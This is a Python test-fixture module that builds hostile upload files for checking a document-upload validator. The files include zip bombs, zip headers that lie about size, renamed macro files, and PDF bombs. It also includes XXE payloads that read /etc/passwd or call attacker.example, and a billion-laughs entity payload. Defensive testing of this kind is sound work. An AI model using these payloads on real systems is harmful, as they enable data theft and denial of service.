"""Builders for hostile upload files: zip bombs, DTD/XXE DOCX, renamed Office files, PDFs that
explode in time or memory. Every builder streams or patches bytes, so building a "bomb" never
needs the memory the bomb would take to open."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

from docx import Document

from tests.odt_files import ODS, content_xml, flat_odt, manifest_xml, odt, odt_package

ZEROS = b"\0" * (1 << 20)
OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@cache
def plain_docx(text: str = "Built data pipelines on Snowflake.") -> bytes:
    document = Document()
    document.add_heading("Experience", level=1)
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(
    base: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    zeros: dict[str, int] | None = None,
    extra_entries: int = 0,
) -> bytes:
    """A copy of the zip `base` with members replaced, `zeros[name]` MB of zeros streamed in,
    and `extra_entries` tiny members added."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, replace.pop(info.filename, source.read(info)))
        for name, data in replace.items():
            target.writestr(name, data)
        for name, megabytes in (zeros or {}).items():
            with target.open(name, "w") as stream:
                for _ in range(megabytes):
                    stream.write(ZEROS)
        for n in range(extra_entries):
            target.writestr(f"word/extra/part{n}.xml", b"<a/>")
    return out.getvalue()


def size_bomb_docx(megabytes: int = 110) -> bytes:
    """A real DOCX plus one member that inflates to `megabytes` MB (deflate: ~1000:1)."""
    return rezip(plain_docx(), zeros={"word/media/filler.bin": megabytes})


def ratio_bomb_docx() -> bytes:
    """Under the size limit, but compressed far more than any real document."""
    return rezip(plain_docx(), zeros={"word/media/filler.bin": 8})


def many_entries_docx(entries: int = 2500) -> bytes:
    return rezip(plain_docx(), extra_entries=entries)


def lying_header_docx(megabytes: int = 40) -> bytes:
    """A member whose zip headers declare 1 KB while its data inflates to `megabytes` MB."""
    return lying_header(plain_docx(), "word/media/filler.bin", megabytes)


def lying_header(base: bytes, member: str, megabytes: int = 40) -> bytes:
    """The zip `base` plus `member`, whose headers declare 1 KB while it inflates to
    `megabytes` MB."""
    data = rezip(base, zeros={member: megabytes})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(member)
    patched = bytearray(data)
    struct.pack_into("<I", patched, info.header_offset + 22, 1024)  # local header: usize
    name = info.filename.encode()
    central = patched.rfind(b"PK\x01\x02")  # walk the central directory from its end
    while central >= 0:
        name_len = struct.unpack_from("<H", patched, central + 28)[0]
        if patched[central + 46 : central + 46 + name_len] == name:
            struct.pack_into("<I", patched, central + 24, 1024)  # central directory: usize
            break
        central = patched.rfind(b"PK\x01\x02", 0, central)
    return bytes(patched)


def _document_xml() -> bytes:
    with zipfile.ZipFile(io.BytesIO(plain_docx())) as archive:
        return archive.read("word/document.xml")


def docx_with_doctype(doctype: str, entity_use: str) -> bytes:
    """document.xml with a DOCTYPE (entities) declared and used in the text."""
    xml = _document_xml().decode("utf-8")
    head, body = xml.split("?>", 1)
    body = body.replace("Built data pipelines on Snowflake.", entity_use, 1)
    return rezip(
        plain_docx(), replace={"word/document.xml": (head + "?>" + doctype + body).encode()}
    )


XXE_FILE = (
    '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "Built &xxe; pipelines",
)
XXE_HTTP = (
    '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "http://attacker.example/steal">]>',
    "Built &xxe; pipelines",
)
BILLION_LAUGHS = (
    "<!DOCTYPE w:document [<!ENTITY a0 'lol'>"
    + "".join(f"<!ENTITY a{n} '{('&a' + str(n - 1) + ';') * 10}'>" for n in range(1, 10))
    + "]>",
    "&a9;",
)


def docm_renamed() -> bytes:
    """A macro-enabled Word file (.docm content type) that someone renamed to .docx."""
    with zipfile.ZipFile(io.BytesIO(plain_docx())) as archive:
        types = archive.read("[Content_Types].xml").decode("utf-8")
    macro = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return rezip(
        plain_docx(),
        replace={"[Content_Types].xml": macro.encode(), "word/vbaProject.bin": b"\0" * 64},
    )


@cache
def plain_odt(text: str = "Built data pipelines on Snowflake.") -> bytes:
    return odt(f'<text:h text:outline-level="1">Experience</text:h><text:p>{text}</text:p>')


def odt_with_doctype(doctype: str, entity_use: str) -> bytes:
    """content.xml with a DOCTYPE (entities) declared and used in the text."""
    body = f'<text:h text:outline-level="1">Experience</text:h><text:p>{entity_use}</text:p>'
    head, rest = content_xml(body).decode("utf-8").split("?>", 1)
    return rezip(plain_odt(), replace={"content.xml": (head + "?>" + doctype + rest).encode()})


def fodt_with_doctype(doctype: str, entity_use: str) -> bytes:
    """A flat OpenDocument text (.fodt) with a DOCTYPE (entities) declared and used in the text."""
    body = f'<text:h text:outline-level="1">Experience</text:h><text:p>{entity_use}</text:p>'
    head, rest = flat_odt(body).decode("utf-8").split("?>", 1)
    return (head + "?>" + doctype + rest).encode()


def fods_file() -> bytes:
    """A flat OpenDocument spreadsheet (.fods): one XML file whose body is a spreadsheet."""
    sheet = flat_odt("", mimetype=ODS)
    return sheet.replace(b"office:text>", b"office:spreadsheet>")


def encrypted_odt() -> bytes:
    """What LibreOffice saves with a password: the manifest names the cipher, the parts are
    ciphertext."""
    return odt_package(b"\x8f\x13\x00 ciphertext", manifest=manifest_xml(encrypted=True))


def ods_file() -> bytes:
    return odt_package(content_xml(""), mimetype=ODS)


def xlsx_file() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", "<worksheet/>")
    return out.getvalue()


def old_doc_file() -> bytes:
    """The first bytes of an OLE2 compound file (what Word 97-2003 .doc files are)."""
    return OLE2_MAGIC + b"\0" * 504 + b"Resume text in a Word 97 document" + b"\0" * 1024


# --- PDFs -------------------------------------------------------------------------------------


def _pdf(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
    ).encode()
    return bytes(out)


def _stream(data: bytes) -> bytes:
    packed = zlib.compress(data, 9)
    head = f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n".encode()
    return head + packed + b"\nendstream"


def _one_page(content: bytes, resources: bytes = b"<< /Font << /F1 5 0 R >> >>") -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources " + resources + b" >>",
            content,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


@cache
def text_flood_pdf(operations: int = 1_500_000) -> bytes:
    """~110 KB on disk; extracting its text takes seconds and hundreds of MB."""
    return _one_page(_stream(b"BT /F1 1 Tf 10 10 Td (a) Tj ET\n" * operations))


@cache
def flate_bomb_pdf(megabytes: int = 400) -> bytes:
    """One content stream that inflates to `megabytes` MB of zeros."""
    return _one_page(_stream(b"0" * (megabytes << 20)))


def cyclic_pages_pdf() -> bytes:
    """A page tree whose /Kids point back at themselves (an endless walk for a naive reader)."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>",
        ]
    )


def deeply_nested_pdf(depth: int = 200_000) -> bytes:
    """Page resources holding an array nested `depth` levels deep (recursion bomb)."""
    nested = b"[" * depth + b"]" * depth
    return _one_page(
        _stream(b"BT /F1 12 Tf 72 700 Td (Hello) Tj ET"),
        resources=b"<< /Font << /F1 5 0 R >> /X " + nested + b" >>",
    )
